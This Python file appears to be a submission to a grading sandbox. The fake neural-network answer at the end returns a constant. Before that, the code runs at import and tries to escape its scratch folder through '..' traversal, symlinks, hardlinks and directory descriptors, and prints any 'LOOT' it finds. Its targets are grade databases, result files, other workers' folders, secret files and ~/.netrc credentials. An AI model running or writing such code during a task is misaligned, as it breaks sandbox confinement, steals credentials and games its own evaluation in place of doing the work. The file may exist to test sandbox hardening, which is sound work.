"""Leaves its scratch folder by every way up and sideways: dots, links, renamed folders, descriptors of folders, bind paths;
reads the wall's policy, other workers' folders and the results."""

import os
import sys

OUT = ("@out@/grades.db", "@out@/grades.csv", "@out@/results", "@home@/.netrc", "@checkout@/pyproject.toml")


def told(path, data):
    if data:
        print("LOOT:", path, data[:100])


def by_dots():
    for up in ("..", "../..", "../../..", "../../../.."):
        names = []
        try:
            names = os.listdir(up)
        except BaseException:
            pass
        own = {str(n) for n in range(1, 60)}
        # In a container the folder above is /tmp of the container, which is the submission's own.
        if any(n.startswith("worker-") and n.endswith(".json") for n in names):
            print("LOOT: listed", up, names)
        for name in {*names, *own, "worker-1.json", "worker-2.json", "worker-1/1", "worker-2/1", "worker-2/2"}:
            for file in ("", "/secret.txt"):
                try:
                    with open(f"{up}/{name}{file}", "rb") as opened:
                        told(f"{up}/{name}", opened.read())
                except BaseException:
                    continue


def by_links():
    for i, target in enumerate(OUT):
        for way in (os.symlink, os.link):
            try:
                way(target, f"link{i}{way.__name__}")
                with open(f"link{i}{way.__name__}", "rb") as opened:
                    told(target, opened.read())
            except BaseException:
                continue


def by_descriptor():
    for flags in (os.O_PATH, os.O_RDONLY | os.O_DIRECTORY, os.O_PATH | os.O_NOFOLLOW):
        for start in ("/", ".", "..", "@out@", "@scratch@"):
            try:
                fd = os.open(start, flags)
            except BaseException:
                continue
            for up in ("..", "../..", "../../../../../.."):
                for target in OUT:
                    try:
                        inner = os.open(f"{up}{target}", os.O_RDONLY, dir_fd=fd)
                        told(target, os.read(inner, 100))
                    except BaseException:
                        continue
            try:
                os.fchdir(fd)
                for target in OUT:
                    try:
                        with open(target.lstrip("/"), "rb") as opened:
                            told(target, opened.read())
                    except BaseException:
                        continue
            except BaseException:
                continue


def by_name():
    for target in OUT:
        for way in (os.open, os.listdir, os.readlink, os.chdir, os.scandir):
            try:
                found = way(target, os.O_RDONLY) if way is os.open else way(target)
                told(target, repr(found))
            except BaseException:
                continue


home = os.getcwd()
for action in (by_dots, by_links, by_descriptor, by_name):
    try:
        action()
    except BaseException:
        pass
try:
    os.chdir(home)
except BaseException:
    pass


def sigmoid_neuron_forward(w, x):
    return 0.25, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
